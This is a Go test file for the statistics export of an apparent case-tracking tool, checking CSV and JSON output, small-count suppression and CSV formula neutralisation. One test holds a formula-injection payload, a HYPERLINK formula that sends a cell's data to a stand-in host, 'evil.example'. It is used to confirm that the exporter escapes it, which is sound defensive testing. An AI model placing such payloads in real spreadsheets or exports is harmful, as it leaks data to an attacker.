package stats

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"testing"

	"casefile/model"
)

func TestWriteCSVAndJSON(t *testing.T) {
	var recs []Record
	for i := 0; i < 30; i++ {
		cat := model.MalfNoAppointment
		if i < 3 {
			cat = model.MalfAccess
		} else if i < 9 {
			cat = model.MalfFilingBug
		}
		r := rec(fmt.Sprint("p", i), model.ProcRenewal, "Lyon", cat)
		r.Filed, r.Attested = d(2025, 1, 1), d(2025, 1, 1+i)
		recs = append(recs, r)
	}
	rep := Compute(recs, Filter{From: d(2025, 1, 1), To: d(2025, 12, 31)})
	var b bytes.Buffer
	label := func(table, axis, key string) string { return "L:" + table + "/" + axis + "/" + key }
	if err := WriteCSV(&b, rep, label); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(lines[0], ",") != strings.Join(CSVHeader, ",") {
		t.Fatalf("header %v", lines[0])
	}
	found := map[string]string{}
	for _, l := range lines[1:] {
		if len(l) != len(CSVHeader) {
			t.Fatalf("line %v", l)
		}
		if l[6] != Suppressed {
			n, err := strconv.Atoi(l[6])
			if err != nil || n >= 1 && n < Threshold {
				t.Fatalf("published count %q in %v", l[6], l)
			}
		}
		found[l[0]+"|"+l[2]+"|"+l[4]] = l[6]
		if l[0] == DelayAttestation && l[2] == KeyAll && l[8] != "14.5" {
			t.Fatalf("median of 0..29 days: %v", l)
		}
		if l[3] != "L:"+l[0]+"/row/"+l[2] {
			t.Fatalf("row label %v", l)
		}
	}
	if found[TableByCategory+"|access|people"] != Suppressed || found[TableByCategory+"|filing_bug|people"] != Suppressed {
		t.Fatalf("access (3) and its complement filing_bug (6) should be %q: %v", Suppressed, found)
	}
	if found[TableByCategory+"|_total|people"] != "30" || found[TableByMonth+"|2025-03|people"] != "30" {
		t.Fatalf("totals: %v", found)
	}
	if found[TableOutcomes+"|renewal|pending"] != "30" || found[TableOutcomes+"|_total|_total"] != "30" {
		t.Fatalf("outcomes: %v", found)
	}
	b.Reset()
	if err := WriteJSON(&b, rep); err != nil {
		t.Fatal(err)
	}
	var back struct {
		From   string `json:"from"`
		Tables []struct {
			ID    string   `json:"id"`
			Cells [][]*int `json:"cells"`
		} `json:"tables"`
	}
	if err := json.Unmarshal(b.Bytes(), &back); err != nil {
		t.Fatal(err)
	}
	if back.From != "2025-01-01" || back.Tables[0].ID != TableByCategory || back.Tables[0].Cells[0][0] != nil {
		t.Fatalf("JSON: %s", b.String()[:300])
	}
}

// TestWriteCSVNeutralisesFormulas: a prefecture typed as a formula reached
// the advocacy CSV as a live formula (a spreadsheet would follow the link
// with the sheet's data). WriteCSV now writes through csvio's writer, as
// export-csv does: the cell keeps its text behind a leading quote.
func TestWriteCSVNeutralisesFormulas(t *testing.T) {
	const evil = `=HYPERLINK("http://evil.example/?"&A2,"click")`
	var recs []Record
	for i := 0; i < 2*Threshold; i++ {
		r := rec(fmt.Sprint("p", i), model.ProcRenewal, evil, model.MalfNoAppointment)
		recs = append(recs, r)
	}
	rep := Compute(recs, Filter{})
	var b bytes.Buffer
	label := func(table, axis, key string) string { return key }
	if err := WriteCSV(&b, rep, label); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := false
	for _, l := range lines {
		for _, c := range l {
			if strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "@") {
				t.Fatalf("live formula in the CSV: %q", c)
			}
			seen = seen || c == "'"+evil
		}
	}
	if !seen {
		t.Fatalf("the prefecture is not in the CSV, neutralised: %v", lines)
	}
}
